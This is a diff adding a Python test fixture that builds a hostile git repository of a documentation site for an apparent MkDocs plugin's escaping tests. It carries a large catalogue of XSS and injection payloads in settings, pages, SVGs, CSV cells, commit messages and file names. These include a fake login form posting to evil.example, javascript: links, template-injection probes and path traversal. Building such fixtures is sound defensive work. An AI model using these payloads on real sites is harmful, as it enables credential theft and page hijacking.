@@ -1,0 +1,184 @@
+"""A repository in which everything that can carry an attack carries one."""
+
+from __future__ import annotations
+
+import json
+from typing import TYPE_CHECKING
+
+from built_site import commit_all, run_git
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+RUN = "window.__hurt=1"
+"""What an attack would do."""
+IMAGE = f"<img src=x onerror={RUN}>"
+TEXT = (
+    f"\"'>{IMAGE}<script>{RUN}</script><svg onload={RUN}></svg><iframe src=https://evil.example/></iframe>"
+    f"</title></textarea></style></script>--><a class=md-overlay href=javascript:{RUN}>x</a>"
+    "<label for=__drawer>y</label>"
+    "{{ 7*7 }}"
+)
+"""What stands in titles, names, cells and messages: it would act wherever it is not escaped."""
+ID = f"\"'>{IMAGE}<script>{RUN}</script>"
+"""The same for ids, which become names of files."""
+ADDRESS = "&javascript:window.__hurt=1&#x22;&#x20;onclick=window.__hurt=1&#x20;x=&#x22;"
+"""The same for settings that take an address; quotes and angle brackets are refused there."""
+NAME = f"Eve \"{IMAGE.replace(' ', '/').replace('<', '').replace('>', '')}' & Co <b>x"
+SETTINGS = f"""
+site_name: {json.dumps(TEXT)}
+theme:
+  name: material
+  font: false
+  features: [navigation.indexes, content.tooltips, content.code.copy, search.suggest, search.highlight, toc.follow]
+extra:
+  polyfills: [assets/iframe-worker/shim.js]
+plugins:
+  - search
+  - offline
+  - smsdocs:
+      organisation: {json.dumps(TEXT)}
+      documents: [handbook]
+      feedback: {json.dumps("https://example.org/?" + ADDRESS)}
+      forge:
+        view: {json.dumps("https://git.example.org/{path}?" + ADDRESS)}
+        edit: {json.dumps("https://git.example.org/edit/{path}?" + ADDRESS)}
+markdown_extensions: [abbr, admonition, attr_list, def_list, footnotes, md_in_html, tables, pymdownx.superfences,
+                      pymdownx.details, pymdownx.tabbed: {{alternate_style: true}}, toc: {{permalink: true}}]
+"""
+BODY = f"""
+# Attacks {IMAGE}
+
+Words <script>{RUN}</script> and {IMAGE}
+
+<script>{RUN}</script>
+
+<style>body {{ display: none }} .md-header {{ background: url(https://evil.example/style) }}</style>
+
+<iframe src="https://evil.example/frame" srcdoc="<script>parent.__hurt=1</script>"></iframe>
+
+<form action="https://evil.example/form"><input name="password"><button>Log in</button></form>
+
+<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
+
+<link rel="stylesheet" href="https://evil.example/link"><meta http-equiv="refresh" content="0;url=https://evil.example/">
+
+<base href="https://evil.example/">
+
+<svg onload="{RUN}"><script>{RUN}</script><animate onbegin="{RUN}" attributeName="x" dur="1s"></animate></svg>
+
+<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>
+
+<details open ontoggle="{RUN}"><summary onclick="{RUN}">more</summary>text</details>
+
+<video src="https://evil.example/video" poster="https://evil.example/poster" onerror="{RUN}" autoplay></video>
+
+<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/cover)">over all</div>
+
+<div><input type="checkbox" checked data-md-toggle="drawer" id="__drawer"><a class="md-overlay" href="https://evil.example/">x</a></div>
+
+<label for="__drawer" class="md-overlay">open</label> <label for="__search">search</label>
+
+<span class="sms-state sms-good">in force</span>
+
+[link](javascript:{RUN}) [entity](java&#115;cript:{RUN}) [data](data:text/html,<script>{RUN}</script>) [vb](vbscript:{RUN})
+
+[attributes](index.md){{ onclick="{RUN}" style="position:fixed;inset:0" .md-overlay #__drawer }}
+
+[title](index.md "{IMAGE.replace('"', "")}") <b title="<img src=x onerror={RUN}>">tip</b>
+
+![picture](https://evil.example/picture) ![host](//evil.example/host) ![data](data:image/svg+xml,<svg/onload={RUN}>)
+
+<picture><source srcset="https://evil.example/set 1x"><img src="https://evil.example/img" srcset="https://evil.example/two 2x" alt="x"></picture>
+
+[drawing](acts.svg) ![drawing](acts.svg) [page](../docs/acts.html)
+
+## Heading {{ onclick="{RUN}" }}
+
+!!! note "{IMAGE.replace('"', "'")}"
+
+    Words {IMAGE}
+
+!!! md-overlay "x"
+
+    y
+
+```mermaid
+graph TD
+  A["{IMAGE.replace('"', "'")}"] --> B
+  click A "javascript:{RUN}"
+```
+
+| cell {{ onclick="{RUN}" }} | b |
+|---|---|
+| {IMAGE} | <script>{RUN}</script> |
+
+*[Words]: {IMAGE}
+
+Note[^1]
+
+[^1]: {IMAGE}
+"""  # noqa: E501  # lines as an attacker writes them
+SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}">
+<script>{RUN}</script>
+<image href="https://evil.example/inside"/>
+</svg>
+"""
+
+
+def write_hostile(root: Path) -> Path:
+    """Write the repository, in two commits by people with hostile names and messages."""
+    _write(root)
+    run_git(root, "init", "--quiet", "--initial-branch", "main")
+    commit_all(
+        root,
+        f"{TEXT}\n\n{TEXT}\n\nReviewed-by: {NAME} <a@example.org>",
+        at="2026-06-20T09:00:00+00:00",
+        name=NAME,
+    )
+    page = root / "handbook/attacks.md"
+    page.write_text(f"{page.read_text(encoding='utf-8')}\nOne more line {IMAGE}\n", encoding="utf-8")
+    commit_all(
+        root,
+        f"{TEXT} again\n\nApproved-by: {NAME} <a@example.org>",
+        at="2026-06-25T09:00:00+00:00",
+        name=NAME,
+    )
+    return root
+
+
+def _write(root: Path) -> None:
+    head = {
+        "id": "POL-1", "title": TEXT, "description": TEXT, "type": "policy", "status": "approved", "version": TEXT,
+        "owner": ID, "approver": ID, "classification": TEXT, "process": TEXT, "implements": [TEXT],
+        "supersedes": [TEXT], "services": [TEXT], "records": [TEXT], "provides": [TEXT], "clauses": [TEXT, "8.6"],
+        "roles": {"accountable": ID, "responsible": [TEXT]}, "interfaces": [{"to": TEXT, "item": TEXT}],
+        "approved_on": "2026-06-01", "template": "404.html", "icon": "../../etc", "tags": [TEXT], "hide": [TEXT],
+    }  # fmt: skip
+    row = {"id": ID, "title": TEXT, "name": TEXT, "purpose": TEXT, "notes": [TEXT, {TEXT: TEXT}]}
+    person = {"id": ID, "name": TEXT, "git": [f"{NAME} <a@example.org>"],
+              "assignments": [{"role": ID, "from": "2026-01-01"}]}  # fmt: skip
+    record = {"id": ID, "title": TEXT, "date": "2026-01-01", "follows": [TEXT], "owner": TEXT, TEXT: TEXT}
+    cell = TEXT.replace('"', '""')
+    _put(root, {
+        "mkdocs.yml": SETTINGS,
+        "docs/index.md": f"---\n{json.dumps({'title': TEXT, 'description': TEXT})}\n---\n\n{IMAGE} Hello.\n",
+        "docs/acts.html": f"<script>{RUN}</script>",
+        "docs/registers/roles.yml": json.dumps({"id": ID, "title": TEXT, "owner": TEXT, "rows": [row]}),
+        "docs/registers/people.yml": json.dumps({"rows": [person]}),
+        "docs/registers/services.yml": json.dumps({"title": TEXT, "rows": [row]}),
+        "docs/records/audit/one.md": f"---\n{json.dumps(record)}\n---\n\n{IMAGE}\n",
+        "docs/records/training/list.csv": f'id,title,date\n"{cell}","{cell}",2026-01-01\n',
+        "handbook/attacks.md": f"---\n{json.dumps(head)}\n---\n{BODY}",
+        "handbook/acts.svg": SVG,
+        "docs/acts.svg": SVG,
+        "handbook/'onclick=window.__hurt=1 x='.md": f"# {IMAGE}\n\nWords\n",
+        "handbook/<img src=x onerror=window.__hurt=1>.md": f"# {TEXT}\n\n## {TEXT}\n\nWords\n",
+        "handbook/{{ 7*7 }}.md": "# Braces\n\nWords\n",
+    })  # fmt: skip
+
+
+def _put(root: Path, files: dict[str, str]) -> None:
+    for path, text in files.items():
+        (root / path).parent.mkdir(parents=True, exist_ok=True)
+        (root / path).write_text(text.lstrip("\n"), encoding="utf-8")
